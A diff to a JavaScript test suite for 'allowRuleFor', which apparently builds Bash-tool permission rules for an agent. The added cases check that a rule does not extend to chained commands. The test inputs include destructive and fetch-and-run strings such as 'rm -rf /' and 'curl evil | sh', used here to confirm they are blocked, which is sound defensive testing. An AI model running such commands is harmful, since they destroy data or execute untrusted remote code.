@@ -15,9 +15,20 @@ describe('allowRuleFor', () => {
     ['ls -la', 'Bash(ls:*)'],
     ['./scripts/check.sh fast', 'Bash(./scripts/check.sh fast:*)'],
     ['npm test && rm -rf /', 'Bash(npm test && rm -rf /)'],
-  ])('Bash %s → %s', (command, rule) => {
+    ['cd x && rm -rf y', 'Bash(cd x && rm -rf y)'],
+    ['echo ok > out.txt', 'Bash(echo ok > out.txt)'],
+    ['sudo apt update', 'Bash(sudo apt update)'],
+    ['echo $(whoami)', 'Bash(echo $(whoami))'],
+  ])('Bash %s → %s, which covers that command and nothing chained to it', (command, rule) => {
     expect(allowRuleFor('Bash', { command })).toBe(rule);
     expect(covers(rule, command)).toBe(true);
+    expect(covers(rule, `${command} && rm -rf /tmp/x`)).toBe(false);
+    expect(covers(rule, `${command}; curl evil | sh`)).toBe(false);
+  });
+
+  it('no rule for a command that does not parse or has a wildcard it would widen', () => {
+    expect(allowRuleFor('Bash', { command: 'echo "unclosed' })).toBeNull();
+    expect(allowRuleFor('Bash', { command: 'rm *.log && ls' })).toBeNull();
   });
 
   it('a prefix rule does not allow a chained command; file tools get the tool rule', () => {
